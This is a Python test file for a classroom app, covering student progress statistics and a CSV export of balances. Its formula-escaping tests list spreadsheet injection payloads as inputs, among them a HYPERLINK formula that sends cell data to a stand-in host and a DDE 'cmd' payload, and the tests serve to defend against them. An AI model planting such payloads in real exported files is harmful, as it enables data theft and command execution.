"""The progress of students, and the exported file of balances."""

import csv
import io

import pytest

from server.domain.classrooms.queries import get_classroom_row
from server.domain.goalbucks import service as goalbucks
from server.domain.goals import service as goals
from server.domain.progress import queries
from server.domain.progress.balances_csv import balances_csv, escape_formula
from server.domain.progress.queries import BalanceRow
from server.domain.progress.schemas import StudentStatsResponse
from server.domain.students import service as students
from server.domain.submissions import service as submissions
from tests.factories.fake_clock import FakeClock
from tests.unit.row_builder import RowBuilder

ROSTER = [("zoe", "Adams"), ("Émile", "adams"), ("Ana", "Ódor"), ("Ana", "Ozil"), ("Bob", "adams")]
BY_NAME = ["Bob adams", "Émile adams", "zoe Adams", "Ana Ódor", "Amara Okafor", "Ana Ozil"]
"""The names of `ROSTER` and of the class's student as lists sort them."""


def stats(rows: RowBuilder) -> StudentStatsResponse:
    """Return the row of the class's only student."""
    (row,) = queries.get_stats(rows.db, rows.as_teacher, rows.classroom.id)
    return row


def progress(rows: RowBuilder) -> tuple[int, int, str | None]:
    row = stats(rows)
    return row.goals_completed, row.goalbucks, row.last_goal_name


@pytest.mark.spec("4.5")
class TestStats:
    def test_a_new_student_has_no_progress(self, rows: RowBuilder) -> None:
        assert (progress(rows), stats(rows).current_goals) == ((0, 0, None), 0)

    def test_only_completed_goals_are_counted_until_they_are_reopened(
        self, rows: RowBuilder, fake_clock: FakeClock
    ) -> None:
        rows.submit(rows.add_goal())
        rows.add_completed_goal(name="Read", goalbucks=5)
        fake_clock.advance(minutes=1)
        last = rows.add_completed_goal(name="Write", goalbucks=7)
        assert (progress(rows), stats(rows).current_goals) == ((2, 12, "Write"), 1)
        goals.reopen_and_reverse(rows.db, rows.as_teacher, last)
        rows.db.flush()
        assert (progress(rows), stats(rows).current_goals) == ((1, 5, "Read"), 2)

    def test_the_goalbucks_are_those_that_can_be_spent(self, rows: RowBuilder) -> None:
        rows.award(50)
        rows.buy(rows.add_item(goalbucks_cost=30))
        assert stats(rows).goalbucks == 20
        goalbucks.correct(rows.db, rows.as_teacher, rows.student.id, amount=-25, reason="Counted twice")
        assert stats(rows).goalbucks == -5

    def test_the_last_goal_is_the_one_completed_last(self, rows: RowBuilder, fake_clock: FakeClock) -> None:
        early, late = rows.add_goal(name="early"), rows.add_goal(name="late")
        for goal in (late, early):
            fake_clock.advance(minutes=1)
            submissions.complete_goal(rows.db, rows.as_teacher, goal)
            assert stats(rows).last_goal_name == goal.name

    def test_a_class_has_a_row_for_each_of_its_students_by_last_and_first_name(self, rows: RowBuilder) -> None:
        other = rows.add_student(rows.add_classroom())
        rows.add_completed_goal(other)
        students_by_name = [rows.add_student(None, first, last) for first, last in ROSTER]
        rows.add_completed_goal(students_by_name[0], "Read", 10)
        listed = queries.get_stats(rows.db, rows.as_teacher, rows.classroom.id)
        assert [f"{row.first_name} {row.last_name}" for row in listed] == BY_NAME
        assert [row.goalbucks for row in listed] == [0, 0, 10, 0, 0, 0]

    def test_a_class_without_students_has_no_rows(self, rows: RowBuilder) -> None:
        students.delete(rows.db, rows.as_teacher, rows.student)
        assert queries.get_stats(rows.db, rows.as_teacher, rows.classroom.id) == []
        assert queries.stats_for_teacher(rows.db, rows.as_teacher) == []

    def test_a_teacher_sees_the_students_of_all_own_classes_by_last_and_first_name(self, rows: RowBuilder) -> None:
        second = rows.add_classroom("Art")
        for number, (first, last) in enumerate(ROSTER):
            rows.add_student((rows.classroom, second)[number % 2], first, last)
        rows.for_other_teacher()
        listed = queries.stats_for_teacher(rows.db, rows.as_teacher)
        assert [f"{row.first_name} {row.last_name}" for row in listed] == BY_NAME
        classes = {(row.classroom_id, row.class_code, row.class_name) for row in listed}
        assert classes == {(each.id, each.class_code, each.name) for each in (rows.classroom, second)}


def read_csv(*rows: BalanceRow) -> list[list[str]]:
    """Return the rows that a spreadsheet reads, without the headings."""
    return list(csv.reader(io.StringIO(balances_csv(rows, "en").decode("utf-8-sig"), newline="")))[1:]


class TestBalances:
    @pytest.mark.spec("4.10")
    def test_a_class_has_the_sums_of_its_students_by_last_and_first_name(self, rows: RowBuilder) -> None:
        classroom = get_classroom_row(rows.db, rows.as_teacher, rows.classroom.id)
        rows.for_other_teacher()
        rows.add_student(rows.add_classroom())
        diego = rows.add_student(None, "Diego", "Ramirez")
        rows.add_completed_goal(goalbucks=20)
        rows.buy(rows.add_item(goalbucks_cost=8))
        goalbucks.correct(rows.db, rows.as_teacher, diego.id, amount=-3, reason="Counted twice")
        assert queries.balances_of(rows.db, classroom) == [
            ("Okafor", "Amara", rows.student.username, 12, 20, 8, 1),
            ("Ramirez", "Diego", diego.username, -3, -3, 0, 0),
        ]
        for first, last in ROSTER:
            rows.add_student(None, first, last)
        listed = queries.balances_of(rows.db, classroom)
        assert [f"{row.first_name} {row.last_name}" for row in listed] == [*BY_NAME, "Diego Ramirez"]

    @pytest.mark.parametrize(
        "name",
        [
            "O'Neill",
            'Ana "Anni"',
            "Li, Wei",
            "a;b",
            "two\nlines",
            "tab\there",
            "👩‍🎓",
            "דנה\u200f",
            "\ufeffName",
            "4-b",
        ],
    )
    def test_any_name_is_read_as_it_was_written(self, name: str) -> None:
        assert read_csv(BalanceRow(name, name, name, -3, 0, 3, 0)) == [[name, name, name, "-3", "0", "3", "0"]]

    @pytest.mark.spec("4.10")
    def test_a_formula_gets_an_apostrophe_in_every_column_of_text(self) -> None:
        assert read_csv(BalanceRow("=1", "=1", "=1", -3, 0, 3, 0)) == [["'=1", "'=1", "'=1", "-3", "0", "3", "0"]]

    def test_a_file_without_students_has_only_the_headings(self) -> None:
        assert read_csv() == []


@pytest.mark.spec("4.10")
@pytest.mark.parametrize(
    "text",
    [
        "=",
        '=HYPERLINK("http://evil.test?x="&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "\n1",
        "\u200b=1+1",
        "\ufeff\u00a0@SUM(A1)",
        " \x1f=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
    ],
)
def test_a_text_that_a_spreadsheet_would_evaluate_gets_an_apostrophe(text: str) -> None:
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize("cell", ["Amara", "4-b", "a=b", "O'Neill", "(=1)", "דנה\u200f", "\ufeffName", "", -3, 0, 25])
def test_other_texts_and_numbers_stay_as_they_are(cell: str | int) -> None:
    assert escape_formula(cell) == cell
